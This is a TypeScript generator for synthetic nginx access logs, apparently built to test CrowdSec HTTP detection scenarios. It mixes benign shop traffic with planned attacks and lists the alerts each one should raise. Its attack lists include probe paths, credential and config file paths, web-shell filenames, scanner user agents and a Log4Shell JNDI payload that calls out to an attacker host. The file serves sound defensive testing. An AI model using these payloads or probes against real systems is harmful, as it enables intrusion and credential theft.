// Deterministic nginx access logs (combined format) for a small shop/blog site: browsers loading
// pages with their assets, API calls, search bots, the odd 404 — mixed with attacks that trip the
// hub's HTTP scenarios. Returns the manifest of attacks generated.
import { overflows, type Pour } from './buckets';
import {
  AttackerPool,
  attackCount,
  attackStart,
  benignPool,
  nginxTime,
  resolveStart,
  timeFormatter,
  writeTimeline,
  type GenerateOptions,
  type GenerateResult,
  type PlannedAttack,
  type TimedLine,
} from './common';
import { Rng } from './prng';

export type NginxAttackKind = 'http-probing' | 'http-sensitive-files' | 'http-backdoors' | 'http-bad-user-agent' | 'log4j' | 'http-crawl';

export interface NginxOptions extends GenerateOptions {
  /** Site name used in referers (default `shop.example.com`). */
  site?: string;
  /** Attack kinds to draw from (default all). */
  kinds?: NginxAttackKind[];
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.0.0',
];
const BOTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)',
];
const SLUGS = ['summer-sale', 'how-we-roast', 'shipping-update', 'new-arrivals', 'care-guide', 'gift-ideas', 'behind-the-scenes', 'faq', 'team', 'returns'];
const CATEGORIES = ['coffee', 'tea', 'mugs', 'grinders', 'kettles', 'gifts'];
const PAGE_KINDS = [
  ['home', 20], ['post', 12], ['product', 25], ['category', 10], ['search', 5], ['cart', 5], ['about', 3], ['redirect', 2], ['gone', 1],
] as const;
const BENIGN_KINDS = [['view', 80], ['api', 10], ['bot', 6], ['login', 4]] as const;
const ASSETS = ['/static/css/main.3f9a2c.css', '/static/js/app.8b1d07.js', '/static/js/vendor.c41e9a.js', '/fonts/inter-var.woff2', '/images/logo.svg', '/images/hero.jpg', '/favicon.ico'];
const STATIC_EXT = new Set(['.JPG', '.CSS', '.JS', '.JPEG', '.PNG', '.SVG', '.MAP', '.ICO', '.OTF', '.GIF', '.MP3', '.MP4', '.WOFF', '.WOFF2', '.TTF', '.EOT', '.WEBP', '.WAV', '.GZ', '.BROTLI', '.BVR', '.TS', '.BMP']);

const PROBE_PATHS = [
  '/admin/', '/administrator/index.php', '/wp-admin/install.php', '/wp-login.php', '/xmlrpc.php', '/phpmyadmin/index.php',
  '/pma/', '/myadmin/', '/dbadmin/', '/mysql/', '/webdav/', '/cgi-bin/', '/manager/html', '/console/', '/solr/', '/jenkins/',
  '/login.action', '/user/login', '/admin/login', '/graphql', '/owa/', '/HNAP1/', '/portal/', '/setup/', '/install/', '/old/',
  '/new/', '/test/', '/demo/', '/bak/', '/temp/', '/staging/', '/cms/', '/blog/wp-admin/', '/wordpress/', '/wp/', '/magento/', '/joomla/',
];
const SENSITIVE_PATHS = [
  '/.env', '/.env.local', '/.env.production.local', '/.git/config', '/.git/HEAD', '/.htpasswd', '/.aws/credentials', '/config/aws.yml',
  '/backup.sql', '/.bash_history', '/secrets.yml', '/.docker/config.json', '/composer.lock', '/debug.log', '/wp-config.php.bak',
  '/.svn/entries', '/.vscode/sftp.json',
];
const BACKDOORS = ['c99.php', 'r57.php', 'shell.php', 'cmd.php', 'wso2.8.5.php', 'alfa3.php', 'xleet.php', 'sh3llx.php', 'simple-backdoor.php', 'cybershell.php'];
const BAD_UAS = [
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 zgrab/0.x',
];

interface HttpEvent {
  sec: number;
  method: string;
  path: string;
  status: number;
  ua: string;
  referer?: string;
  sensitive?: boolean;
  backdoor?: boolean;
  badUa?: boolean;
  log4j?: boolean;
}

function fileParts(path: string): { fileName: string; isStatic: boolean } {
  const request = path.split('?')[0];
  const fileName = request.slice(request.lastIndexOf('/') + 1);
  const dot = fileName.lastIndexOf('.');
  return { fileName, isStatic: dot >= 0 && STATIC_EXT.has(fileName.slice(dot).toUpperCase()) };
}

/** Expected alerts for one source's requests (hub base-http-scenarios + log4j CVE scenario). */
export function expectedHttpScenarios(events: HttpEvent[]): string[] {
  const out: string[] = [];
  const parts = events.map((e) => ({ e, ...fileParts(e.path) }));
  const probing: Pour[] = parts.filter((p) => [400, 403, 404].includes(p.e.status) && !p.isStatic).map((p) => ({ sec: p.e.sec, distinct: p.e.path }));
  const crawl: Pour[] = parts.filter((p) => !p.isStatic && ['GET', 'HEAD'].includes(p.e.method)).map((p) => ({ sec: p.e.sec, distinct: p.fileName }));
  if (events.some((e) => e.log4j)) out.push('crowdsecurity/apache_log4j2_cve-2021-44228');
  if (overflows(parts.filter((p) => p.e.backdoor).map((p) => ({ sec: p.e.sec, distinct: p.fileName })), 1, 5)) out.push('crowdsecurity/http-backdoors-attempts');
  if (overflows(events.filter((e) => e.badUa).map((e) => ({ sec: e.sec })), 1, 60)) out.push('crowdsecurity/http-bad-user-agent');
  if (overflows(crawl, 40, 0.5)) out.push('crowdsecurity/http-crawl-non_statics');
  if (overflows(probing, 10, 10)) out.push('crowdsecurity/http-probing');
  if (overflows(events.filter((e) => e.sensitive).map((e) => ({ sec: e.sec, distinct: e.path.split('?')[0] })), 4, 5)) out.push('crowdsecurity/http-sensitive-files');
  return out;
}

export function generateNginx(opts: NginxOptions): GenerateResult {
  const rng = new Rng(opts.seed ?? 1);
  const lps = opts.linesPerSecond ?? 50;
  const startMs = resolveStart(opts.start);
  const site = `https://${opts.site ?? 'shop.example.com'}`;
  const time = timeFormatter(startMs, nginxTime);
  const duration = Math.max(1, Math.ceil(opts.lines / lps));
  // A page view is ~4 lines; ~1 page view per client every 2 minutes keeps every client far from
  // the crawl (40 pages, 0.5 s leak) and probing thresholds.
  const clients = benignPool(rng, opts.clients ?? Math.max(500, Math.ceil(lps * 30)));
  const line = (ip: string, sec: number, e: Omit<HttpEvent, 'sec'>, bytes: number) =>
    `${ip} - - [${time(sec)}] "${e.method} ${e.path} HTTP/1.1" ${e.status} ${bytes} "${e.referer ?? '-'}" "${e.ua}"`;

  const page = (): [string, number] => {
    switch (rng.weighted(PAGE_KINDS)) {
      case 'home':
        return ['/', 200];
      case 'post':
        return [`/blog/${rng.pick(SLUGS)}`, 200];
      case 'product':
        return [`/products/${rng.pick(CATEGORIES)}-${rng.range(1, 400)}`, 200];
      case 'category':
        return [`/category/${rng.pick(CATEGORIES)}?page=${rng.range(1, 9)}`, 200];
      case 'search':
        return [`/search?q=${rng.pick(CATEGORIES)}+${rng.pick(['organic', 'gift', 'sale', 'blue'])}`, 200];
      case 'cart':
        return ['/cart', 200];
      case 'about':
        return ['/about', 200];
      case 'redirect':
        return ['/blog', 301];
      default: // an old link
        return [`/blog/${rng.pick(SLUGS)}-${rng.range(2015, 2019)}`, 404];
    }
  };

  const benign = (sec: number, count: number, out: string[]): void => {
    const target = out.length + count;
    while (out.length < target) {
      const ip = rng.pick(clients);
      const kind = rng.weighted(BENIGN_KINDS);
      if (kind === 'bot') {
        const ua = rng.pick(BOTS);
        const [path, status] = rng.chance(0.3) ? rng.pick<[string, number]>([['/robots.txt', 200], ['/sitemap.xml', 200]]) : page();
        out.push(line(ip, sec, { method: 'GET', path, status, ua }, rng.range(300, 40000)));
      } else if (kind === 'api') {
        const ua = rng.pick(BROWSERS);
        out.push(line(ip, sec, { method: 'GET', path: `/api/v1/items?category=${rng.pick(CATEGORIES)}&page=${rng.range(1, 5)}`, status: 200, ua, referer: `${site}/` }, rng.range(800, 9000)));
      } else if (kind === 'login') {
        const ua = rng.pick(BROWSERS);
        const ok = rng.chance(0.9);
        out.push(line(ip, sec, { method: 'POST', path: '/account/login', status: ok ? 302 : 200, ua, referer: `${site}/account/login` }, rng.range(0, 600)));
      } else {
        const ua = rng.pick(BROWSERS);
        const [path, status] = page();
        out.push(line(ip, sec, { method: 'GET', path, status, ua, referer: rng.chance(0.6) ? `${site}/` : undefined }, rng.range(2000, 60000)));
        if (status === 200) {
          const assets = rng.int(5);
          for (let i = 0; i < assets && out.length < target; i++) {
            const cached = rng.chance(0.5);
            out.push(line(ip, sec, { method: 'GET', path: rng.pick(ASSETS), status: cached ? 304 : 200, ua, referer: `${site}${path}` }, cached ? 0 : rng.range(400, 250000)));
          }
        }
      }
    }
  };

  const kinds = opts.kinds ?? ['http-probing', 'http-sensitive-files', 'http-backdoors', 'http-bad-user-agent', 'log4j', 'http-crawl'];
  const attackers = new AttackerPool(rng);
  const attacks: PlannedAttack[] = [];
  const n = attackCount(opts, 15);
  for (let i = 0; i < n; i++) attacks.push(planAttack(rng, rng.pick(kinds), attackers.next(), duration, line));
  return writeTimeline({ rng, lines: opts.lines, linesPerSecond: lps, startMs, attacks, benign, out: opts.out });
}

type LineFn = (ip: string, sec: number, e: Omit<HttpEvent, 'sec'>, bytes: number) => string;

const SCENARIO_OF: Record<NginxAttackKind, string> = {
  'http-probing': 'crowdsecurity/http-probing',
  'http-sensitive-files': 'crowdsecurity/http-sensitive-files',
  'http-backdoors': 'crowdsecurity/http-backdoors-attempts',
  'http-bad-user-agent': 'crowdsecurity/http-bad-user-agent',
  log4j: 'crowdsecurity/apache_log4j2_cve-2021-44228',
  'http-crawl': 'crowdsecurity/http-crawl-non_statics',
};

function planAttack(rng: Rng, kind: NginxAttackKind, ip: string, duration: number, line: LineFn): PlannedAttack {
  const events: HttpEvent[] = [];
  const scanner = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36';
  const sec = attackStart(rng, duration, 5);
  // Requests spread over `spanSeconds` starting at `sec`.
  const burst = (paths: string[], spanSeconds: number, fields: Partial<HttpEvent> & { status: number }) =>
    paths.forEach((path, i) => events.push({ sec: sec + Math.floor((i * spanSeconds) / paths.length), method: 'GET', path, ua: scanner, ...fields }));

  switch (kind) {
    case 'http-probing': // 11-16 distinct non-static 404s within 2 s
      burst(rng.sample(PROBE_PATHS, rng.range(11, 16)), 2, { status: 404 });
      break;
    case 'http-sensitive-files': // 5-7 distinct sensitive files within 2 s
      burst(rng.sample(SENSITIVE_PATHS, rng.range(5, 7)), 2, { status: 404, sensitive: true });
      break;
    case 'http-backdoors': {
      const dir = rng.pick(['/', '/wp-content/uploads/', '/images/', '/uploads/']);
      burst(rng.sample(BACKDOORS, rng.range(2, 4)).map((f) => dir + f), 1, { status: 404, backdoor: true });
      break;
    }
    case 'http-bad-user-agent':
      burst(['/', '/robots.txt', '/'].slice(0, rng.range(2, 3)), 2, { status: 200, ua: rng.pick(BAD_UAS), badUa: true });
      break;
    case 'log4j': {
      const payload = `\${jndi:ldap://${ip}:1389/Basic/Command/Base64/${rng.range(100000, 999999)}}`;
      if (rng.chance(0.5)) burst(['/'], 1, { status: 200, ua: payload, log4j: true });
      else burst([`/?x=${payload.replace('{', '%7B').replace(/}$/, '%7D')}`], 1, { status: 400, log4j: true });
      break;
    }
    case 'http-crawl': { // 50-60 distinct pages within 3 s
      const ids = rng.sample(Array.from({ length: 400 }, (_, i) => i + 1), rng.range(50, 60));
      burst(ids.map((id) => `/products/${rng.pick(CATEGORIES)}-${id}`), 3, { status: 200 });
      break;
    }
  }
  const lines: TimedLine[] = events.map((e) => ({ sec: e.sec, render: (s) => line(ip, s, e, e.status === 200 ? 5120 : 153) }));
  return { record: { scenarioKind: SCENARIO_OF[kind], source_ip: ip, expected: expectedHttpScenarios(events) }, lines };
}
